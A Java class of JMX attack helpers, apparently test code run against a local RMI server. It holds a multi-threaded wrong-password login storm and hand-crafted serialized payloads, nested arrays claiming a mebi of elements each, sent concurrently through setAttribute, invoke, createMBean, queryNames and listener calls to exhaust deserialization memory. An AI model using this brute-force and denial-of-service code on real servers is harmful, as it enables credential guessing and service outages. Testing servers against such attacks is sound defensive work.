import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectInputStream;
import java.rmi.MarshalledObject;
import java.rmi.registry.LocateRegistry;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicLong;
import javax.management.ObjectName;
import javax.management.remote.rmi.RMIConnection;
import javax.management.remote.rmi.RMIServer;

/** Attacks by a client that does not use Java's connector, but the remote objects behind it. */
public final class Attacks {
    private static final int MEBI = 1 << 20;

    private final AtomicLong guesses = new AtomicLong();
    private volatile boolean isCalm;
    private RMIConnection session;

    /** Logs in. */
    public void login(int port, String user, String password) throws Exception {
        RMIServer server = (RMIServer) LocateRegistry.getRegistry("127.0.0.1", port).lookup("jmxrmi");
        session = server.newClient(new String[] {user, password});
    }

    /** Logs in with wrong passwords, from so many threads, until it is calm. */
    public void storm(int port, String user, int threads) throws Exception {
        RMIServer server = (RMIServer) LocateRegistry.getRegistry("127.0.0.1", port).lookup("jmxrmi");
        atOnce(threads, () -> {
            while (!isCalm) {
                Client.failure(() -> server.newClient(new String[] {user, "guess " + guesses.get()}));
                guesses.incrementAndGet();
            }
        });
    }

    public long guessed() {
        return guesses.get();
    }

    public void calm() {
        isCalm = true;
    }

    /** Sets an attribute to a value that nobody made, so often at once; the failures. */
    public List<String> setAtOnce(String name, byte[] value, int count) throws Exception {
        return atOnce(count, () -> session.setAttribute(new ObjectName(name), marshalled(value), null));
    }

    public List<String> setAllAtOnce(String name, byte[] values, int count) throws Exception {
        return atOnce(count, () -> session.setAttributes(new ObjectName(name), marshalled(values), null));
    }

    public List<String> invokeAtOnce(String name, byte[] parameters, int count) throws Exception {
        return atOnce(count,
            () -> session.invoke(new ObjectName(name), "purge", marshalled(parameters), new String[0], null));
    }

    public List<String> createAtOnce(byte[] parameters, int count) throws Exception {
        return atOnce(count, () -> session.createMBean("javax.management.timer.Timer", new ObjectName("x:y=z"),
            marshalled(parameters), new String[] {"java.lang.Object"}, null));
    }

    public List<String> queryAtOnce(byte[] query, int count) throws Exception {
        return atOnce(count, () -> session.queryNames(null, marshalled(query), null));
    }

    public List<String> listenAtOnce(String name, byte[] filter, int count) throws Exception {
        return atOnce(count, () -> session.addNotificationListeners(
            new ObjectName[] {new ObjectName(name)}, new MarshalledObject<?>[] {marshalled(filter)}, null));
    }

    private static List<String> atOnce(int count, Client.Callable attempt) throws Exception {
        ExecutorService threads = Executors.newFixedThreadPool(count);
        try {
            List<Future<String>> attempts = new ArrayList<>();
            for (int number = 0; number < count; number++) {
                attempts.add(threads.submit(() -> Client.failure(attempt)));
            }
            List<String> failures = new ArrayList<>();
            for (Future<String> each : attempts) {
                failures.add(each.get());
            }
            return failures;
        } finally {
            threads.shutdown();
        }
    }

    /** Arrays within arrays, each of which says that it has a mebi of elements, and ends after its first. */
    public static byte[] truncatedArrays(int depth) throws IOException {
        ByteArrayOutputStream octets = new ByteArrayOutputStream();
        DataOutputStream stream = new DataOutputStream(octets);
        stream.writeInt(0xaced0005);
        for (int level = 0; level < depth; level++) {
            stream.writeByte(0x75);
            if (level == 0) {
                writeArrayClass(stream, "[Ljava.lang.Object;", 0x90ce589f1073296cL);
            } else {
                stream.writeByte(0x71);
                stream.writeInt(0x7e0000);
            }
            stream.writeInt(MEBI);
        }
        return octets.toByteArray();
    }

    private static void writeArrayClass(DataOutputStream stream, String name, long version) throws IOException {
        stream.writeByte(0x72);
        stream.writeUTF(name);
        stream.writeLong(version);
        stream.write(new byte[] {2, 0, 0, 0x78, 0x70});
    }

    /** An object that deserialises those octets. */
    private static MarshalledObject<?> marshalled(byte[] value) throws Exception {
        ByteArrayOutputStream octets = new ByteArrayOutputStream();
        DataOutputStream stream = new DataOutputStream(octets);
        stream.writeInt(0xaced0005);
        stream.write(new byte[] {0x73, 0x72});
        stream.writeUTF("java.rmi.MarshalledObject");
        stream.writeLong(8988374069173025854L);
        stream.write(new byte[] {2, 0, 3, 'I'});
        stream.writeUTF("hash");
        stream.writeByte('[');
        stream.writeUTF("locBytes");
        stream.writeByte(0x74);
        stream.writeUTF("[B");
        stream.writeByte('[');
        stream.writeUTF("objBytes");
        stream.writeByte(0x71);
        stream.writeInt(0x7e0001);
        stream.write(new byte[] {0x78, 0x70, 0, 0, 0, 0, 0x70, 0x75});
        writeArrayClass(stream, "[B", 0xacf317f8060854e0L);
        stream.writeInt(value.length);
        stream.write(value);
        try (ObjectInputStream input = new ObjectInputStream(new ByteArrayInputStream(octets.toByteArray()))) {
            return (MarshalledObject<?>) input.readObject();
        }
    }
}
